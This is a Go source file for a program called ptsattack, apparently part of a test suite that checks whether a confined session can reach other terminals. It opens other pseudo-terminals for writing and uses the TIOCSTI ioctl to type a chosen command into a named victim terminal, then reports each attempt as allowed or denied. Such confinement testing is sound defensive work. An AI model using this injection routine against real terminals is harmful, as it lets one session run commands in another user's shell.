// Command ptsattack is run inside a confined session by the terminal
// confinement test: it tries to open every other terminal of the machine
// for writing (writing nothing), types a command into the victim's
// terminal with TIOCSTI (only that one: the machine's other terminals are
// not the test's to type into), and tries TIOCSTI on its own. It prints
// one line per attempt: "OPEN <tty> ok|denied (<err>)", "TIOCSTI <tty>
// ok|<errno>".
package main

import (
	"fmt"
	"os"
	"strconv"
	"unsafe"

	"golang.org/x/sys/unix"
)

// maxPTS bounds the terminal numbers tried.
const maxPTS = 512

func main() {
	if len(os.Args) != 3 {
		fmt.Fprintln(os.Stderr, "usage: ptsattack VICTIM-TTY COMMAND-TO-TYPE")
		os.Exit(2)
	}
	victim, typed := os.Args[1], os.Args[2]+"\n"
	own, _ := os.Readlink("/proc/self/fd/0")
	// By name, not by listing: /dev/pts may not be listable, and a name
	// needs no listing to be opened.
	opened, tried := 0, 0
	for n := 0; n < maxPTS; n++ {
		tty := "/dev/pts/" + strconv.Itoa(n)
		if tty == own {
			continue
		}
		fd, err := unix.Open(tty, unix.O_WRONLY|unix.O_NOCTTY, 0)
		if err == unix.ENOENT {
			continue
		}
		tried++
		if err != nil {
			fmt.Printf("OPEN %s denied (%v)\n", tty, err)
			continue
		}
		opened++
		fmt.Printf("OPEN %s ok\n", tty)
		if tty == victim {
			fmt.Printf("TIOCSTI %s %s\n", tty, sti(fd, typed))
		}
		unix.Close(fd)
	}
	fmt.Printf("TIOCSTI own %s\n", sti(0, "\n"))
	fmt.Printf("SUMMARY tried=%d opened=%d\n", tried, opened)
}

// sti types s into the terminal fd, a byte at a time.
func sti(fd int, s string) string {
	for i := 0; i < len(s); i++ {
		c := s[i]
		if _, _, errno := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCSTI, uintptr(unsafe.Pointer(&c))); errno != 0 {
			return errno.Error()
		}
	}
	return "ok"
}
